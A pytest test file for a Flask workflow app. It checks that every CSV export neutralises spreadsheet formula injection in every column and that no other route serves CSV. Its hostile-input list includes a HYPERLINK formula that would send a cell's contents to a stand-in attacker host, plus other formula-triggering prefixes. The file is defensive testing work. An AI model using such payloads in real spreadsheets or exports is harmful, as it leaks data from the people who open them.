"""Every CSV export neutralises cells a spreadsheet would run as formulas, in every column, and says its
Content-Type once.

The exports are found in the app's URL map (every route ending ``.csv``; the hostile-input crawl checks
that no other page answers ``text/csv``), and each cell of each export is shown to come out of the one
neutralising function, whatever column it stands in."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from gpect_workflow.models import Organisation, Person, PersonRole, Plan, Task
from gpect_workflow.models.committee import CommitteeDecision
from gpect_workflow.services import csv_export
from gpect_workflow.services.context import session
from gpect_workflow.services.csv_export import FORMULA_STARTS, csv_bytes, neutralise
from tests.conftest import sign_in
from tests.web.test_plan_reports import plan  # noqa: F401 - the fixture

#: Every CSV download of the UI, by rule; the API answers JSON only (checked below).
EXPORTS = ("/committee/report.csv", "/partners/import/example.csv", "/plans/<id:plan_id>/report.csv")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1"]


def table(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("value", HOSTILE)
def test_every_column_is_neutralised(value: str) -> None:
    width = 4
    rows = [[value if column == position else "ok" for column in range(width)] for position in range(width)]
    read = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert_neutral(read)
    assert [row[index] for index, row in enumerate(read)] == ["'" + value] * width
    assert neutralise("Plan emplois") == "Plan emplois" and neutralise(None) == "" and neutralise(12) == "12"


@pytest.fixture
def hostile_plan(plan: Plan) -> Plan:  # noqa: F811 - the fixture imported above
    """The review plan with hostile names in every free text a report shows."""
    plan.name = HOSTILE[0]
    for index, task in enumerate(session().scalars(sa.select(Task).where(Task.plan_id == plan.id))):
        task.status_reason = HOSTILE[index % len(HOSTILE)]
    for index, organisation in enumerate(session().scalars(sa.select(Organisation))):
        organisation.name = f"{HOSTILE[1 + index % 5]} {index}"
    for index, person in enumerate(session().scalars(sa.select(Person))):
        person.name = f"{HOSTILE[2 + index % 4]} {index}"
    for decision in session().scalars(sa.select(CommitteeDecision)):
        decision.minutes = HOSTILE[3]
    session().commit()
    return plan


def test_the_plan_and_committee_reports_neutralise_every_hostile_name(
    client: FlaskClient, hostile_plan: Plan, create_user: Any
) -> None:
    admin = create_user("admin@example.org", PersonRole.ADMIN)
    session().commit()
    sign_in(client, admin)
    for url in (f"/plans/{hostile_plan.id}/report.csv", "/committee/report.csv"):
        rows = table(client.get(url))
        assert_neutral(rows)
        cells = {cell for row in rows for cell in row}
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
        assert any(cell.startswith("'-") for cell in cells) and any(cell.startswith("'+") for cell in cells)
        assert any(cell.startswith("'\t") for cell in cells) and any(cell.startswith("'\r") for cell in cells)


def test_the_partners_import_example_is_neutral_and_says_its_charset_once(
    client: FlaskClient, create_user: Any
) -> None:
    admin = create_user("admin@example.org", PersonRole.ADMIN)
    session().commit()
    rows = table(sign_in(client, admin).get("/partners/import/example.csv"))
    assert_neutral(rows)
    assert len(rows) > 1


def csv_rules(app: Flask) -> set[str]:
    return {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}


def test_the_exports_tested_are_every_csv_route_of_the_app(app: Flask, client: FlaskClient) -> None:
    assert csv_rules(app) == set(EXPORTS)
    spec = client.get("/api/openapi.json").get_json()
    # A stored evidence file comes back as it was accepted (a partner's CSV included), as an attachment: the
    # app writes none of its cells. Every other answer is the app's own.
    media = {
        media_type
        for path, operations in spec["paths"].items()
        if path != "/api/v1/files/{file_id}/content"
        for operation in operations.values()
        if isinstance(operation, dict)
        for answer in operation.get("responses", {}).values()
        for media_type in answer.get("content", {})
    }
    assert not any("csv" in media_type for media_type in media), media


def test_every_cell_of_every_export_comes_out_of_the_one_neutralising_function(
    app: Flask, client: FlaskClient, hostile_plan: Plan, create_user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each export's cells, in every column, are exactly the outputs of ``neutralise``, in order: no export
    writes a cell of its own, so the hostile starts above are neutralised in every column alike."""
    made: list[str] = []

    def spy(cell: object) -> str:
        made.append(neutralise(cell))
        return made[-1]

    monkeypatch.setattr(csv_export, "neutralise", spy)
    admin = create_user("admin@example.org", PersonRole.ADMIN)
    session().commit()
    sign_in(client, admin)
    for rule in EXPORTS:
        made.clear()
        rows = table(client.get(rule.replace("<id:plan_id>", str(hostile_plan.id))))
        cells = [cell for row in rows for cell in row]
        assert cells == made, rule
        assert_neutral(rows)
        width = {len(row) for row in rows}
        assert len(width) == 1, f"{rule}: rows of different widths {width}"
